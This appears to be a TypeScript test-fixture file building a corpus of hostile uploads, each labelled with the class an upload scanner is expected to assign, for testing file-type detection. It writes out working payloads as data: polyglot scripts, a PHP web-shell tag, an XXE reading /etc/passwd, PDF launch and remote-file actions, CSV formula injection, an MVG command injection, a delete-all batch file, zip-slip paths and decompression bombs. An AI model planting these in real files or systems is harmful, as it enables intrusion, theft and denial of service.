import { deflateSync, gzipSync } from "node:zlib";
import {
  box,
  bytesOf,
  type CorpusFile,
  chunk,
  evilSvg,
  file,
  heic,
  ispe,
  jpeg,
  jsAction,
  le16,
  noise,
  objectStream,
  page,
  pdf,
  png,
  segment,
  stream,
  text,
  u16,
  u32,
  utf8,
  utf16,
  webp,
  webpChunk,
  webpExtended,
  zip,
} from "./file-corpus";

const zeros = (length: number): Uint8Array => new Uint8Array(length);
const hex = (words: string): Uint8Array =>
  // A space inside: as text it begins with two numbers, as an honest object stream does.
  utf8(
    [...utf8(words)]
      .map((byte) => byte.toString(16))
      .join("")
      .replace(/^(..)(..)/, "$1 $2 "),
  );
const hiddenScript = `11 0 ${jsAction}`;
/** A TIFF predictor leaves the first pixel as it is and writes the rest as differences. */
const asDifferences = (words: string, colours: number): Uint8Array => {
  const plain = utf8(words);
  return plain.map((byte, at) => (at < colours ? byte : (byte - (plain[at - colours] ?? 0)) & 255));
};
const mach = (...magic: number[]): Uint8Array<ArrayBuffer> => bytesOf(magic, noise(200));
const withXmp = (inner: string): Uint8Array<ArrayBuffer> =>
  jpeg({
    before: [segment(0xe1, "http://ns.adobe.com/xap/1.0/\0", `<x:xmpmeta><dc:title>${inner}</dc:title></x:xmpmeta>`)],
  });

/** More that people should not send, each with what must be said of it. What is taken is only ever handed out as data in a sandbox. */
export const hostileFiles: readonly CorpusFile[] = [
  // Two things at once.
  text("a GIF that is a script", "GIF89a=1;alert(document.cookie)//", "other_image"),
  text("a bitmap that is a script", "BM=1;alert(document.cookie)//", "unknown"),
  file("a JPEG that is a script in a comment", jpeg({ before: [segment(0xfe, "*/=alert(1);/*")] }), "image/jpeg"),
  file(
    "a page in the data of a WEBP",
    webpExtended(80, 60, webpChunk("XMP ", page), webpChunk("VP8 ", zeros(16))),
    "polyglot",
  ),
  file("a PDF in a WEBP", webpExtended(80, 60, webpChunk("EXIF", pdf()), webpChunk("VP8 ", zeros(16))), "polyglot"),
  file("a page far inside a PNG", png({ more: [chunk("tEXt", noise(9_000)), chunk("tEXt", page)] }), "polyglot"),
  file("an archive in the text of a PNG", png({ more: [chunk("zzZz", zip("evil.js"))] }), "polyglot"),
  file("a page in a free box of a HEIC", heic({ inside: box("free", page) }), "polyglot"),
  file("a RAR inside a JPEG", jpeg({ before: [segment(0xe2, "Rar!\x1a\x07\x01\0", noise(40))] }), "polyglot"),
  file("a 7z inside a PDF", pdf({ objects: [stream("", bytesOf("7z\xbc\xaf\x27\x1c", noise(40)))] }), "polyglot"),
  file("a RAR close behind a PDF", pdf({ behind: bytesOf("Rar!\x1a\x07\x01\0", noise(40)) }), "polyglot"),
  file("a page close behind a PDF", pdf({ behind: page }), "polyglot"),
  file("a tar that is a PDF", bytesOf("%PDF-1.4\n%", zeros(247), "ustar\0", zeros(249), pdf()), "polyglot"),
  file("a disk picture that is a PDF", bytesOf("%PDF-1.4\n%", noise(32_759), "CD001", pdf()), "polyglot"),
  file("a tar that is a PNG", png({ more: [chunk("zzZz", zeros(257 - 41), "ustar\0", zeros(249))] }), "polyglot"),
  file("a program with a PDF in it", bytesOf("MZ\x90\0", noise(300), pdf()), "polyglot"),
  file("a PNG with a short PHP tag", png({ more: [chunk("tEXt", "Comment\0<?=`$_GET[0]`?>")] }), "polyglot"),
  file("a JPEG with a script in its XMP", withXmp("<script>alert(1)</script>"), "polyglot"),
  file("a JPEG with a drawing in its XMP", withXmp("<svg onload=alert(1)>"), "polyglot"),
  file("a JPEG with a handler in its XMP", withXmp('"&gt;&lt;img src=x onerror=alert(1)'), "image/jpeg"),
  file(
    "a JPEG whose owner is called a formula",
    jpeg({ before: [segment(0xe1, "Exif\0\0=cmd|' /C calc'!A0")] }),
    "image/jpeg",
  ),

  // Drawings and pages.
  text(
    "an SVG with a page in it",
    "<svg><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>",
    "svg",
  ),
  text("an SVG that unfolds", `<!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><svg>&b;&b;</svg>`, "svg"),
  text("an SVG that reads a file", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', "svg"),
  text("an SVG that loads another", '<svg xmlns:xlink="x"><use xlink:href="https://evil.test/a.svg#b"/></svg>', "svg"),
  file(
    "an SVG in UTF-16, the other way round",
    bytesOf(
      [0xfe, 0xff],
      utf16(evilSvg).map((_, at, all) => all[at ^ 1] ?? 0),
    ),
    "svg",
  ),
  file("a packed SVG", bytesOf(gzipSync(evilSvg)), "archive"),
  text("a program in HTML (HTA)", "<html><hta:application id=x><script>new ActiveXObject('x')</script>", "html"),
  text("a mail with a file", "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b", "html"),
  text("a feed", '<?xml version="1.0"?><rss><channel/></rss>', "xml"),
  text("a stylesheet that runs", '<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="x"/>', "xml"),
  text("a PDF in XML (XDP)", '<?xml version="1.0"?><xdp:xdp xmlns:xdp="x"><pdf/></xdp:xdp>', "xml"),

  // PDFs that do something, hidden in each place readers look.
  file("a PDF with scripts by name", pdf({ catalog: "/Names << /JavaScript 8 0 R >>" }), "pdf_active"),
  file(
    "a PDF with a script for a page",
    pdf({ objects: ["8 0 obj << /AA << /O 9 0 R >> /JS (x) >> endobj\n"] }),
    "pdf_active",
  ),
  file(
    "a PDF that opens a file of another host",
    pdf({ catalog: "/OpenAction << /S /GoToR /F (\\\\evil\\x) >>" }),
    "pdf_active",
  ),
  file("a PDF that opens a file in it", pdf({ catalog: "/OpenAction << /S /GoToE >>" }), "pdf_active"),
  file("a PDF that reads a file into its form", pdf({ catalog: "/OpenAction << /S /ImportData >>" }), "pdf_active"),
  file("a PDF with a model in it", pdf({ objects: ["8 0 obj << /Type /3D /Subtype /U3D >> endobj\n"] }), "pdf_active"),
  file("a PDF that plays", pdf({ catalog: "/OpenAction << /S /Rendition /OP 0 >>" }), "pdf_active"),
  ...["/S /Launch /F (cmd.exe)", "/Type /EmbeddedFile", "/XFA [(a) 8 0 R]", "/S /SubmitForm", "/S /#47#6fToR"].map(
    (deed) =>
      file(`a PDF with ${deed} in an object stream`, pdf({ objects: [objectStream(`<< ${deed} >>`)] }), "pdf_active"),
  ),
  file("a PDF that launches in escapes", pdf({ catalog: "/OpenAction << /S /#4c#61unch >>" }), "pdf_active"),
  file("a PDF that sends in escapes", pdf({ catalog: "/OpenAction << /S /Submit#46orm >>" }), "pdf_active"),
  file("a PDF with an attachment in escapes", pdf({ catalog: "/Names << /Embedded#46iles 8 0 R >>" }), "pdf_active"),
  file(
    "a PDF with an XFA form inside what poses as a stream",
    pdf({ objects: ["% >> stream\n8 0 obj << /XFA %\x81\n 9 0 R >> endobj\n% endstream\n"] }),
    "pdf_active",
  ),
  file(
    "a PDF with a script in an object stream that does not say so",
    pdf({ objects: [stream("/N 1 /First 5 /Filter /FlateDecode", deflateSync(utf8(hiddenScript)))] }),
    "pdf_active",
  ),
  file(
    "a PDF whose object stream is packed by a short name",
    pdf({ objects: [stream("/Type /ObjStm /Filter /AHx", hex(hiddenScript))] }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream is packed as it says elsewhere",
    pdf({ objects: ["10 0 obj /ASCIIHexDecode endobj\n", stream("/Type /ObjStm /Filter 10 0 R", hex(hiddenScript))] }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream hides how it is packed behind a text",
    pdf({ objects: [stream("/Filter /AHx /X (obj) /Type /ObjStm", hex(hiddenScript))] }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream hides how it is packed behind a name",
    pdf({ objects: [stream("/Filter /AHx /Xobj << /Type /ObjStm >>", hex(hiddenScript))] }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream is packed once more after that",
    pdf({ objects: [stream("/Type /ObjStm /Filter [/FlateDecode /AHx]", deflateSync(hex(hiddenScript)))] }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream is written as differences, as it says elsewhere",
    pdf({
      objects: [
        "10 0 obj << /Pred#69ctor 2 /Colors 8 /Columns 99 >> endobj\n",
        stream("/Type /ObjStm /Filter /FlateDecode /DecodeParms 10 0 R", deflateSync(asDifferences(hiddenScript, 8))),
      ],
    }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream says it is packed and is not",
    pdf({ objects: [stream("/Type /ObjStm /Filter /FlateDecode", utf8("11 0 << /A 1 >>"))] }),
    "pdf_opaque",
  ),
  file(
    "a PDF that unfolds when its page is drawn",
    pdf({ objects: [stream("/Filter /FlateDecode", deflateSync(zeros(20_000_000)))] }),
    "application/pdf",
  ),
  file("a locked PDF with a comment in between", pdf({ trailer: "/Encrypt%x\n8 0 R" }), "pdf_encrypted"),
  file("a locked PDF with zeros in between", pdf({ trailer: "/Encrypt\0\x008\x000 R" }), "pdf_encrypted"),
  file("five bytes of a PDF", bytesOf("%PDF-"), "truncated"),

  // Small here, large when opened; and sizes that lie.
  file("a zip that unfolds", zip("zeros.bin", "\0".repeat(4_000)), "archive"),
  file("an archive of archives", zip("a.zip", "PK\x03\x04"), "archive"),
  file("a gzip that unfolds", bytesOf(gzipSync(zeros(10_000_000))), "archive"),
  file("a GIF of 65,535 × 65,535", bytesOf("GIF89a", le16(65_535), le16(65_535), noise(40)), "other_image"),
  file(
    "a TIFF of four billion pixels a side",
    bytesOf("MM\0*", u32(8), u16(1), u16(256), u16(4), u32(1), u32(0xffffffff)),
    "other_image",
  ),
  file(
    "a PNG with a text that unfolds",
    png({ more: [chunk("zTXt", "x\0\0", deflateSync(zeros(1_000_000)))] }),
    "image/png",
  ),
  file("a PNG of four billion frames", png({ more: [chunk("acTL", u32(0xffffffff), u32(0))] }), "image/png"),
  file("a PNG with a chunk of four billion bytes", png({ more: [bytesOf(u32(0xffffffff), "iCCP")] }), "truncated"),
  file(
    "a JPEG whose first frame is large and whose second is not",
    jpeg({ before: [segment(0xc0, [8], u16(65_000), u16(65_000), [1, 1, 0x11, 0])] }),
    "pixel_flood",
  ),
  file("a JPEG as wide as no scanner", jpeg({ width: 65_000, height: 1 }), "pixel_flood"),
  file(
    "a WEBP whose picture is larger than it says",
    webpExtended(80, 60, webpChunk("VP8 ", [0x30, 1, 0, 0x9d, 1, 0x2a], le16(16_383), le16(16_383), zeros(8))),
    "pixel_flood",
  ),
  file(
    "a HEIC with two heads, one of them large",
    heic({ inside: box("meta", u32(0), box("iprp", box("ipco", ispe(60_000, 60_000)))) }),
    "pixel_flood",
  ),
  file(
    "a HEIC with more heads than any",
    heic({ inside: bytesOf(...Array.from({ length: 9 }, () => box("meta", u32(0)))) }),
    "corrupt",
  ),
  file(
    "a film that calls itself a HEIC",
    bytesOf(box("ftyp", "heic", u32(0)), box("moov", zeros(60)), box("mdat", zeros(60))),
    "truncated",
  ),
  file(
    "a film with a HEIC's name second",
    bytesOf(box("ftyp", "isom", u32(0), "heic"), box("mdat", zeros(60))),
    "unknown",
  ),
  file(
    "a HEIC whose box is longer than the file",
    bytesOf(box("ftyp", "heic", u32(0)), u32(0x7fffffff), "mdat"),
    "truncated",
  ),

  // Not what they say.
  file("a JPEG in the clothes of a PNG", bytesOf("\x89PNG\r\n\x1a\n", jpeg()), "corrupt"),
  file("a sound in the clothes of a WEBP", bytesOf("RIFF", noise(4), "WAVEfmt ", noise(60)), "unknown"),
  file("a WEBP of which the first half is said to be all", bytesOf("RIFF", [8, 0, 0, 0], webp().slice(8)), "corrupt"),
  file("one byte", bytesOf([0]), "unknown"),
  file("two bytes of a JPEG", bytesOf([0xff, 0xd8]), "unknown"),

  // Programs and what starts them.
  file("a Mac program of 32 bits", mach(0xfe, 0xed, 0xfa, 0xce), "executable"),
  file("a Mac program of 32 bits, the other way round", mach(0xce, 0xfa, 0xed, 0xfe), "executable"),
  file("an Android program", bytesOf("dex\n035\0", noise(60)), "executable"),
  file("a WebAssembly program", bytesOf("\0asm", [1, 0, 0, 0]), "executable"),
  file("a shortcut of Windows (.lnk)", bytesOf("L\0\0\0\x01\x14\x02\0", noise(80)), "executable"),
  text("a shortcut to an address (.url)", "[InternetShortcut]\r\nURL=file://evil.test/x.exe", "executable"),
  file("a help page that runs (.chm)", bytesOf("ITSF", noise(80)), "executable"),
  text("a batch file", "@echo off\r\ndel /q *.*", "unknown"),
  text("a Visual Basic script", 'CreateObject("WScript.Shell").Run "calc"', "unknown"),
  text("a table with a formula", "name,amount\n=cmd|' /C calc'!A0,1", "unknown"),
  text(
    "a drawing by commands (MVG)",
    "push graphic-context\nfill 'url(https://evil.test/x.jpg\"|ls \"-la)'",
    "unknown",
  ),
  text("a PostScript program", "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file", "unknown"),

  // Office files that run, and archives.
  file("a Word document with macros", zip("word/vbaProject.bin"), "office"),
  file("a spreadsheet with macros", zip("xl/macrosheets/sheet1.xml"), "office"),
  text("an RTF text with a program in it", "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}", "office"),
  file("an installer (.msi)", bytesOf("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", noise(600)), "office"),
  file("a Java archive", zip("META-INF/MANIFEST.MF"), "archive"),
  file("an archive with a path out of itself", zip("../../etc/cron.d/x"), "archive"),
  file("an archive in pieces", bytesOf("PK\x07\x08PK\x03\x04", noise(40)), "archive"),
  file("an empty archive", bytesOf("PK\x05\x06", zeros(18)), "archive"),
  file("a cabinet", bytesOf("MSCF\0\0\0\0", noise(40)), "archive"),
  file("a Debian package", bytesOf("!<arch>\ndebian-binary", noise(40)), "archive"),
  file("a Mac package", bytesOf("xar!", noise(40)), "archive"),
  file("an LHA archive", bytesOf("\x22\x80-lh5-", noise(40)), "archive"),
  file("a bzip2 archive", bytesOf("BZh91AY&SY", noise(40)), "archive"),
  file("an xz archive", bytesOf("\xfd7zXZ\0", noise(40)), "archive"),
  file("a zstd archive", bytesOf("\x28\xb5\x2f\xfd", noise(40)), "archive"),
];
